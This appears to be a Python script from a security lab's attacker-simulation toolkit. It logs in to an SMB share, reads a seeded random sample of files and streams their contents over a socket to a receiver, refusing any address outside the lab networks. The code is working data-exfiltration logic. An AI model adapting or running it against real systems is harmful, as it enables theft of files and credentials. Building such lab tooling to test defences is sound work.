"""The theft before the damage: files read over SMB from a workstation of the lab and sent out through the gateway.

Comes in: a `Theft` as JSON on standard input. Goes out: one JSON object with what was sent. The files are synthetic
and the receiver is the lab's own Internet: an address outside the lab is refused.
"""

from __future__ import annotations

import ipaddress
import json
import os
import random
import socket
import sys

import msgspec

from garde.lab.attackers.smb_attack import PASSWORD
from garde.lab.attackers.smb_client import LAB_NETWORKS, SmbShare

CONNECT_S = 5.0


class Theft(msgspec.Struct, frozen=True):
    """What is taken, and where it goes."""

    server: str
    share: str
    login: str
    files: int
    seed: int
    to: str  # address of the receiver, in the lab's Internet
    port: int


def main() -> int:
    """Read, send, say how much."""
    theft = msgspec.json.decode(sys.stdin.read(), type=Theft)
    address = ipaddress.ip_address(theft.to)
    if not any(address in network for network in LAB_NETWORKS):
        raise ValueError(f"{theft.to} is not in the lab")
    sent = files = 0
    with SmbShare(theft.server, theft.share, theft.login, os.environ.get(PASSWORD, "")) as share:
        paths = list(share.walk())
        random.Random(theft.seed).shuffle(paths)
        with socket.create_connection((theft.to, theft.port), CONNECT_S) as line:
            for path in paths[: theft.files]:
                data = share.read(path)
                line.sendall(data)
                sent, files = sent + len(data), files + 1
    print(json.dumps({"files": files, "bytes": sent}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
